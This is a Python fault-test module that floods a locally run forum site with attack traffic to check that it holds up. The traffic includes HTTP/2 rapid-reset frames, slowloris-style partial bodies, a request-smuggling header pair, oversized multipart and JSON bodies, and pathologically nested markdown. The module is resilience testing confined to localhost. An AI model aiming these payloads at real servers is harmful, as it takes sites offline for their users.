"""What strangers and four new members do to a site at once: `python -m tests.faults.attackers`.

Only ever against this machine. Each attack is one after the other without a pause; several attackers do the same, and
each kind of attack has an address of its own. In truth attackers have machines of their own, so here they get of the
processors what the site and its users leave.
"""

import asyncio
import json
import os
import sys
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress
from contextvars import ContextVar

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\0\0\0\4\0\0\0\0\0"
RESETS = b"".join(
    b"\0\0\1\1\5"
    + number.to_bytes(4, "big")
    + b"\x82"
    + b"\0\0\4\3\0"
    + number.to_bytes(4, "big")
    + b"\0\0\0\10"
    for number in range(1, 4_001, 2)
)
HOST = "Host: pie.example\r\n"
HOSTILE = (
    "://" * 16_600,
    "http:///" * 6_000,
    "a\n\n" * 16_600,
    "|a|b|\n|-|-|\n" + "|1|2|\n" * 8_000,
    "- " * 20_000,
    "> " * 20_000,
)
GIVE_UP = 15.0  # seconds that an attacker waits for an answer

Attack = Callable[[], Awaitable[None]]

_address: ContextVar[str] = ContextVar("address")


class Attackers:
    """What is done.

    Parameters:
        port: of the site.
        tokens: of the members.
        silent: the address of a page that never answers.
    """

    def __init__(self, port: int, tokens: list[str], silent: str) -> None:
        self._port, self._tokens, self._silent = port, tokens, silent
        self.done = 0

    def attacks(self) -> list[tuple[Attack, int]]:
        """Every attack, and how many do it at once."""
        return [
            (lambda: self.post("/auth/login", b"a=1&" * 1_250_000), 2),
            (lambda: self.post("/auth/login", _one_header(2_000_000), "multipart/form-data; boundary=b"), 2),
            (lambda: self.post("/auth/login", b"--b\r\n" * 300_000, "multipart/form-data; boundary=b"), 2),
            (lambda: self.post("/auth/register", b"\r" * 1_000_000, "multipart/form-data; boundary=b"), 2),
            (lambda: self.post("/api/alpha/user/login", b'{"x":[' + b"{}," * 600_000 + b"{}]}", "application/json"), 2),
            (self.keep_the_last_byte, 60),
            (lambda: self.ask(f"/api/alpha/post/site_metadata?url={self._silent}", member=True), 40),
            (self.publish, 4),
            (lambda: self.send(PREFACE + SETTINGS + RESETS), 3),
            (lambda: self.upgrade("h2c\r\nHTTP2-Settings: AAMAAABk"), 3),
            (lambda: self.upgrade("websocket\r\nSec-WebSocket-Version: 13"), 3),
            (lambda: self.send(_head("POST /", "Content-Length: 4\r\nTransfer-Encoding: chunked") + b"0\r\n\r\n"), 3),
            (lambda: self.send(b"GET / HTTP/1.1\nHost: a\n\n"), 3),
            (lambda: self.send(b"GET / HTTP/1.1\r\nHost: " + b"a" * 70 + b".example\r\n\r\n"), 3),
            (lambda: self.ask("/search?q=" + "a+" * 10_000), 2),
        ]  # fmt: skip

    async def send(self, data: bytes) -> None:
        """Send bytes, and take what comes."""
        reader, writer = await asyncio.open_connection(
            "127.0.0.1", self._port, local_addr=(_address.get(), 0)
        )
        try:
            async with asyncio.timeout(GIVE_UP):
                writer.write(data)
                await writer.drain()
                await reader.read()
        finally:
            writer.transport.abort()

    async def upgrade(self, to: str) -> None:
        """Ask for another protocol."""
        await self.send(_head("GET /about", f"Connection: Upgrade, close\r\nUpgrade: {to}"))

    async def post(
        self, path: str, body: bytes, kind: str = "application/x-www-form-urlencoded", more: str = ""
    ) -> None:
        """Post a body."""
        extra = f"Content-Type: {kind}\r\nContent-Length: {len(body)}\r\nConnection: close" + more
        await self.send(_head(f"POST {path}", extra) + body)

    async def ask(self, path: str, *, member: bool = False) -> None:
        """GET a path."""
        await self.send(_head(f"GET {path}", "Connection: close" + (self._authorization() if member else "")))

    async def publish(self) -> None:
        """Write what is hard to render."""
        body = {"title": "A", "community_id": 1, "body": HOSTILE[self.done % len(HOSTILE)]}
        await self.post(
            "/api/alpha/post", json.dumps(body).encode(), "application/json", self._authorization()
        )

    async def keep_the_last_byte(self) -> None:
        """Send nearly all of a large body, and wait."""
        await self.send(_head("POST /auth/login", "Content-Length: 20000000") + b"a=1&" * 200_000)

    async def go_on(self, attack: Attack, address: str, until: float) -> None:
        """Do it again and again from this address."""
        _address.set(address)
        while time.monotonic() < until:
            with suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
                await attack()
            self.done += 1
            await asyncio.sleep(0.05)

    def _authorization(self) -> str:
        return f"\r\nAuthorization: Bearer {self._tokens[self.done % len(self._tokens)]}"


def _head(first: str, more: str) -> bytes:
    return f"{first} HTTP/1.1\r\n{HOST}{more}\r\n\r\n".encode()


def _one_header(size: int) -> bytes:
    return b"--b\r\nContent-Disposition: form-data; name=" + b"a" * size + b"\r\n\r\n\r\n--b--\r\n"


async def attack(port: int, seconds: float, silent: str, tokens: list[str]) -> int:
    """Do all of it for so long; return how often something was done."""
    until = time.monotonic() + seconds
    attackers = Attackers(port, tokens, silent)
    await asyncio.gather(
        *(
            attackers.go_on(one, f"127.0.0.{number}", until)
            for number, (one, times) in enumerate(attackers.attacks(), 2)
            for _ in range(times)
        )
    )
    return attackers.done


def give_way() -> None:
    """Run only when nobody else wants to."""
    os.nice(19)
    if sys.platform == "linux":
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))


if __name__ == "__main__":
    give_way()
    _, port, seconds, silent, *tokens = sys.argv
    print(asyncio.run(attack(int(port), float(seconds), silent, tokens)))
